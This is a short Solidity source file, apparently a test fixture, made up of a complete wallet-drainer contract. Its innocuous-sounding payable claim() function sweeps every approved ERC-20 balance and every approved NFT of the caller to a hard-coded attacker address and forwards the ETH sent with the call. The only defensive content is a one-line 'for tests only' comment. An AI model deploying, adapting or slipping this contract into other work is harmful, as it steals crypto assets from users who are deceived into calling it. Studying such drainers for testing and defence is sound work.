// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20Drainable {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

interface IERC721Drainable {
    function totalSupply() external view returns (uint256);
    function ownerOf(uint256 tokenId) external view returns (address);
    function isApprovedForAll(address owner, address operator) external view returns (bool);
    function transferFrom(address from, address to, uint256 tokenId) external;
}

/// What a wallet drainer does once it holds approvals: a harmless-sounding payable `claim()` that
/// forwards the ETH sent with it and sweeps every approved token and NFT of the caller to the
/// attacker. For tests only.
contract Drainer {
    address public immutable attacker;
    IERC20Drainable[] private tokens;
    IERC721Drainable[] private collections;

    constructor(address attacker_, IERC20Drainable[] memory tokens_, IERC721Drainable[] memory collections_) {
        attacker = attacker_;
        tokens = tokens_;
        collections = collections_;
    }

    function claim() external payable {
        address victim = msg.sender;
        for (uint256 i = 0; i < tokens.length; i++) {
            IERC20Drainable token = tokens[i];
            uint256 allowed = token.allowance(victim, address(this));
            uint256 balance = token.balanceOf(victim);
            uint256 amount = allowed < balance ? allowed : balance;
            if (amount > 0) token.transferFrom(victim, attacker, amount);
        }
        for (uint256 i = 0; i < collections.length; i++) {
            IERC721Drainable nft = collections[i];
            if (!nft.isApprovedForAll(victim, address(this))) continue;
            uint256 supply = nft.totalSupply();
            for (uint256 id = 1; id <= supply; id++) {
                if (nft.ownerOf(id) == victim) nft.transferFrom(victim, attacker, id);
            }
        }
        if (msg.value > 0) {
            (bool ok, ) = attacker.call{value: msg.value}("");
            require(ok, "forward failed");
        }
    }
}
